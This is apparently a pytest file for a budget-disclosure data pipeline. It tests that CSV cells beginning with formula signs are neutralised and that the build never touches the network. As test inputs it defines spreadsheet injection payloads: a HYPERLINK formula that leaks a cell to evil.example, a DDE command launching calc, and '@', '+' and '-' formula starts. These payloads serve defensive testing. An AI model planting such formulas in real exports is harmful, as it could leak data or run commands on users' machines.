"""Nothing in a document can attack a reader: spreadsheet formulas in CSV cells are neutralised, and
the build makes no network request."""

from __future__ import annotations

import csv
import re
import socket
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from frictionless import validate
from hypothesis import given, settings
from hypothesis import strategies as st

from cnbudget.model import Disclosure
from cnbudget.package.write import FORMULA_STARTS, printed_text, text_cell, write_all_package, write_package
from cnbudget.pipeline.build import build

ROOT = Path(__file__).resolve().parent.parent
SOURCES = ROOT / "sources"
TEMPLATES = ROOT / "templates"

# Names a document could print that a spreadsheet would run: a link that leaks a cell, a DDE
# command, and the four signs OWASP lists, also behind a tab or a carriage return.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = (HYPERLINK, "+1", "-1+2", "@SUM(A1)", DDE, "\t=1+1", "\r=1+1")
NEGATIVE_FIGURE = re.compile(r"-[0-9]+(?:\.[0-9]+)?")


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _errors(descriptor: Path) -> list[list[Any]]:
    return validate(str(descriptor)).flatten(["rowNumber", "fieldName", "type", "note"])  # type: ignore[no-any-return]


# --- the policy, cell by cell ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, written",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        (DDE, "'" + DDE),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+5%", "'+5%"),
        ("-12.50 万元", "'-12.50 万元"),
        ("'quoted", "''quoted"),  # so that dropping one leading ' always gives the text back
        ("-12.50", "-12.50"),  # a negative figure as amounts are written: a spreadsheet reads the same number
        ("-3", "-3"),
        ("=", "="),  # a sign alone runs nothing: the operator of a performance indicator
        ("-", "-"),  # the dash of an empty cell
        ("行政运行", "行政运行"),
        ("2023 目标考核及督查专项", "2023 目标考核及督查专项"),
        ("1+1", "1+1"),
        ("", ""),
    ],
)
def test_text_cell(text: str, written: str) -> None:
    assert text_cell(text) == written
    assert printed_text(written) == text


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r'.0123456789aA(),|!行政 ")) | st.text())
def test_text_cell_is_safe_and_lossless(text: str) -> None:
    written = text_cell(text)
    assert printed_text(written) == text
    if written.startswith(FORMULA_STARTS):
        assert written == text and (len(text) == 1 or NEGATIVE_FIGURE.fullmatch(text)), repr(written)


# --- a package written from a disclosure whose names are formulas --------------------------------


def _hostile_disclosure() -> Disclosure:
    did = "sichuan-test-unit-2024-budget"
    meta = {
        "disclosure_id": did,
        "unit_id": "sichuan-test-unit",
        "unit_name": HYPERLINK,
        "unit_aliases": "@SUM(A1);+1",
        "province": "四川省",
        "fiscal_year": 2024,
        "kind": "budget",
        "scope": "department",
        "title": "-1+2 2024年部门预算",
        "source_files": "test.txt",
        "source_sha256": "0" * 64,
    }
    amounts = [Decimal("-12.50"), Decimal("-0.01"), Decimal(3), Decimal("-1504.28"), Decimal("0.00"), Decimal(-7), Decimal(1)]
    projects = [
        {"disclosure_id": did, "line": n, "phase": "approved", "project_name": name, "amount": amount, "function_code": "2013101", "classification_year": 2024}
        for n, (name, amount) in enumerate(zip(HOSTILE, amounts, strict=True), 1)
    ]
    indicators = [
        {"disclosure_id": did, "line": i + 1, "project_name": name, "indicator": name, "operator": "=", "target": "-5" if i % 2 else "+5%", "weight": Decimal("-1.5")}
        for i, name in enumerate(HOSTILE)
    ]
    keyed = {"disclosure_id": did, "phase": "approved"}
    coded = keyed | {"code_printed": True, "classification_year": 2024, "origin": "table"}
    return Disclosure(
        meta=meta,
        rows={
            "totals": [keyed | {"metric": "expenditure_total", "amount": Decimal("-12.50"), "origin": "table"}],
            "expenditure_by_function": [
                coded | {"function_code": "201", "level": "class", "function_name": "@一般公共服务支出", "total": Decimal("-12.50")},
                coded | {"function_code": "2013101", "level": "item", "function_name": "=行政运行", "total": Decimal("-12.50")},
            ],
            "projects": projects,
            "performance_indicators": indicators,
            "checks": [{"disclosure_id": did, "check_id": "total-mismatch", "subject": "=1+1", "status": "fail", "expected": "-12.50", "actual": "+1", "detail": DDE, "severity": "mismatch"}],
        },
    )


def test_package_neutralises_formula_cells_and_keeps_amounts_exact(tmp_path: Path) -> None:
    disclosure = _hostile_disclosure()
    folder, all_folder = tmp_path / disclosure.id, tmp_path / "all"
    write_package(disclosure, folder, {})
    write_all_package([disclosure], all_folder, {})
    for package in (folder, all_folder):
        assert _errors(package / "datapackage.json") == [], package.name
        [meta] = _csv(package / "disclosure.csv")
        assert meta["unit_name"] == "'" + HYPERLINK
        assert (meta["unit_aliases"], meta["title"]) == ("'@SUM(A1);+1", "'-1+2 2024年部门预算")
        projects = _csv(package / "projects.csv")
        assert [p["project_name"] for p in projects] == ["'" + name for name in HOSTILE]
        assert [p["amount"] for p in projects] == ["-12.50", "-0.01", "3", "-1504.28", "0.00", "-7", "1"]  # numbers, exact, no quote
        indicators = _csv(package / "performance_indicators.csv")
        assert [i["indicator"] for i in indicators] == ["'" + name for name in HOSTILE]
        assert {i["operator"] for i in indicators} == {"="} and {i["target"] for i in indicators} == {"-5", "'+5%"}
        assert {i["weight"] for i in indicators} == {"-1.5"}
        functions = _csv(package / "expenditure_by_function.csv")
        assert [(f["function_name"], f["total"]) for f in functions] == [("'@一般公共服务支出", "-12.50"), ("'=行政运行", "-12.50")]
        [check] = _csv(package / "checks.csv")
        assert (check["expected"], check["actual"], check["detail"], check["subject"]) == ("-12.50", "'+1", "'" + DDE, "'=1+1")
        assert _csv(package / "totals.csv")[0]["amount"] == "-12.50"
        # no cell of the package starts with a formula sign, except the figures and lone signs kept on purpose
        for path in package.glob("*.csv"):
            for row in _csv(path):
                for value in row.values():
                    assert not value.startswith(FORMULA_STARTS) or value in ("=", "-") or NEGATIVE_FIGURE.fullmatch(value), (path.name, value)


def test_formula_names_read_from_a_source_are_neutralised(tmp_path: Path) -> None:
    """Through the whole build: project and indicator names from a text layer, and the package still validates."""
    text = (SOURCES / "004_15acfc837217044d.txt").read_text(encoding="utf-8")
    replacements = {
        "2023 目标考核及督 查专项\t58\t58\t\t58": f"{HYPERLINK}\t-12.50\t-12.50\t\t-12.50",
        "2023 区委深化改革 专项": "+1",
        "\t档案数字化数量\t": "\t@SUM(A1)\t",
        "\t调研、大型活动和会议数量\t": "\t-1+2\t",
    }
    for old, new in replacements.items():
        assert text.count(old) == 1, old  # the seed still prints the line this test changes
        text = text.replace(old, new)
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "hostile.txt").write_text(text, encoding="utf-8")
    out = tmp_path / "datapackages"
    report = build([tmp_path / "src"], out, None, TEMPLATES, jobs=1, log=lambda _m: None)
    assert [e["status"] for e in report.entries] == ["ok"], report.entries
    [package] = [p.parent for p in out.glob("*/datapackage.json") if p.parent.name != "all"]
    projects = {p["project_name"]: p["amount"] for p in _csv(package / "projects.csv")}
    assert projects["'" + HYPERLINK] == "-12.50"
    assert "'+1" in projects and HYPERLINK not in projects and "+1" not in projects
    indicators = {cell for row in _csv(package / "performance_indicators.csv") for cell in row.values()}
    assert {"'@SUM(A1)", "'-1+2"} <= indicators and not {"@SUM(A1)", "-1+2"} & indicators
    for descriptor in (package / "datapackage.json", out / "all" / "datapackage.json"):
        assert _errors(descriptor) == [], descriptor
    # The source breaks: its package is kept stale and all/ is rebuilt from the CSVs already
    # written, whose cells already carry their one ' (never a second).
    before = {path.name: path.read_bytes() for path in package.glob("*.csv")}
    (tmp_path / "src" / "hostile.txt").write_bytes(b"")
    report = build([tmp_path / "src"], out, None, TEMPLATES, jobs=1, log=lambda _m: None)
    assert [e["status"] for e in report.entries] == ["failed"], report.entries
    assert {path.name: path.read_bytes() for path in package.glob("*.csv")} == before
    all_projects = [p["project_name"] for p in _csv(out / "all" / "projects.csv")]
    assert "'+1" in all_projects and "''+1" not in all_projects


# --- no network ---------------------------------------------------------------------------------


def test_build_makes_no_network_request(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A full build, packages and site (mkdocs included), with every way out to the network refused."""
    attempts: list[str] = []
    real_connect, real_connect_ex = socket.socket.connect, socket.socket.connect_ex

    def refused(what: str) -> OSError:
        attempts.append(what)
        return OSError(f"the build tried to reach the network: {what}")

    def connect(self: socket.socket, address: Any) -> None:
        if self.family == socket.AF_UNIX:  # a local pipe (multiprocessing), not the network
            return real_connect(self, address)
        raise refused(f"socket.connect({address!r})")

    def connect_ex(self: socket.socket, address: Any) -> int:
        if self.family == socket.AF_UNIX:
            return real_connect_ex(self, address)
        raise refused(f"socket.connect_ex({address!r})")

    def create_connection(address: Any, *args: Any, **kwargs: Any) -> socket.socket:
        raise refused(f"socket.create_connection({address!r})")

    def getaddrinfo(host: Any, *args: Any, **kwargs: Any) -> list[Any]:
        raise refused(f"socket.getaddrinfo({host!r})")

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", connect_ex)
    monkeypatch.setattr(socket, "create_connection", create_connection)
    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)

    packages, site = tmp_path / "datapackages", tmp_path / "site"
    messages: list[str] = []
    report = build([SOURCES], packages, site, TEMPLATES, jobs=1, log=messages.append)
    assert attempts == []
    assert not report.failed, report.entries
    assert (packages / "all" / "datapackage.json").is_file()
    assert (site / "index.html").is_file() and (site / "data" / "all" / "datapackage.json").is_file()
    assert len(list((site / "disclosures").glob("*/index.html"))) == len(report.disclosures) == 5
